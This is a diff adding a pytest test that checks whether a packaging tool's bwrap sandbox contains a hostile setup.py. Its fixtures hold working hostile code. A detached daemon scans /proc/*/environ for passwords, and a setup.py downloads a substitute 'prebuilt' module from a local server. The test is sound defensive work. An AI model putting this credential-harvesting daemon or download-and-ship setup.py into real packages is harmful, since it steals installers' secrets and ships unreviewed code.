@@ -1,0 +1,143 @@
+"""A hostile setup.py through a real release: it starts a setsid daemon that hunts /proc/*/environ for
+credentials for as long as it lives, and downloads a "prebuilt wheel" instead of compiling. The
+sandbox (wheelflow.core.sandbox) must leave it nothing: no credential, no surviving process, and no
+downloaded file in what is published."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import signal
+import threading
+import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import INDEX_PASSWORD, make_project, run_cli
+
+from wheelflow.core import sandbox
+
+# Lives as long as it can, reading every process's start environment it may, and keeps what holds a
+# password where an attacker would pick it up later (here: a file the test reads).
+DAEMON = """
+import glob, os, sys, time
+drop = sys.argv[1]
+print("hostile daemon started", flush=True)
+deadline = time.monotonic() + 900
+while time.monotonic() < deadline:
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        try:
+            with open(path, "rb") as f:
+                found = [v for v in f.read().split(b"\\0") if b"PASSWORD=" in v]
+        except OSError:
+            continue
+        if found:
+            try:
+                with open(drop, "ab") as out:
+                    out.write(path.encode() + b" " + b" ".join(found) + b"\\n")
+            except OSError:
+                pass
+    time.sleep(0.05)  # the attacker's polling, not the test's
+"""
+
+# Starts the daemon (keeping the build's output pipe open), then fetches a prebuilt module instead
+# of compiling one, as setup.py files that guess a release asset's URL do.
+SETUP_PY = """
+import subprocess, sys, urllib.request
+subprocess.Popen([sys.executable, {daemon!r}, {drop!r}], start_new_session=True)
+direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
+try:
+    prebuilt = direct.open({url!r}, timeout=20).read()
+    with open("src/tiny_pkg/prebuilt.py", "wb") as f:
+        f.write(prebuilt)
+    print("hostile setup.py: shipped the downloaded file", flush=True)
+except OSError as exc:
+    print(f"hostile setup.py: download failed: {{exc}}", flush=True)
+from setuptools import setup
+setup()
+"""
+
+
+class PrebuiltServer:
+    """A loopback HTTP server that serves a "prebuilt" file and counts the requests it gets."""
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: object) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                server.requests.append(self.path)
+                body = b"PREBUILT = 'downloaded, not compiled'\n"
+                self.send_response(200)
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
+        self._thread.start()
+        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}/prebuilt.py"
+
+    def close(self) -> None:
+        self._httpd.shutdown()
+        self._httpd.server_close()
+
+
+def _processes_running(script: Path) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
+                    if str(script).encode() in cmdline.read():
+                        found.append(int(entry))
+            except OSError:
+                pass
+    return found
+
+
+@pytest.mark.skipif(sandbox.protection() != sandbox.BWRAP, reason="bwrap cannot make namespaces here")
+@pytest.mark.case(
+    "secret",
+    "a hostile setup.py in a release starts a setsid daemon polling /proc/*/environ for passwords and "
+    "downloads a prebuilt file from a server on this machine instead of compiling",
+    "the daemon finds no password and does not outlive the build; the download fails and nothing "
+    "downloaded is published; the report names the sandbox",
+)
+def test_a_hostile_setup_py_finds_no_secret_leaves_no_process_and_ships_no_download(
+    tmp_path: Path, home: Path, index, index_credentials, prefect_api
+) -> None:
+    daemon, drop = tmp_path / "hostile-daemon.py", tmp_path / "found.txt"
+    daemon.write_text(DAEMON)
+    prebuilt = PrebuiltServer()
+    try:
+        project = make_project(tmp_path / "proj", index_url=index.simple_url)
+        (project / "setup.py").write_text(SETUP_PY.format(daemon=str(daemon), drop=str(drop), url=prebuilt.url))
+        result = run_cli("release", str(project), "--builder", "local", "--json")
+        survivors = _processes_running(daemon)  # right as the release returns: each build's daemon is gone
+    finally:
+        prebuilt.close()
+        for pid in _processes_running(daemon):  # a failing run must not leave the hunt going on
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+    assert result.returncode == 0, result.stderr[-3000:]
+    report = json.loads(result.stdout)
+    assert report["sandbox"] == "bwrap (pid+net namespace)"
+    assert "sandbox: bwrap (pid+net namespace)" in result.stderr
+    assert "hostile daemon started" in result.stderr  # the daemon ran, in every build step
+    assert "hostile setup.py: download failed" in result.stderr
+    assert "shipped the downloaded file" not in result.stderr
+    assert survivors == []
+    assert prebuilt.requests == []  # the server on this machine's loopback was never reached
+    found = drop.read_bytes() if drop.exists() else b""
+    assert INDEX_PASSWORD.encode() not in found and b"PASSWORD=" not in found
+    published = sorted((tmp_path / "served").rglob("*.whl"))
+    assert [p.name for p in published] == ["tiny_pkg-1.0.0-py3-none-any.whl"]
+    with zipfile.ZipFile(published[0]) as wheel:
+        assert not [n for n in wheel.namelist() if n.endswith("prebuilt.py")]
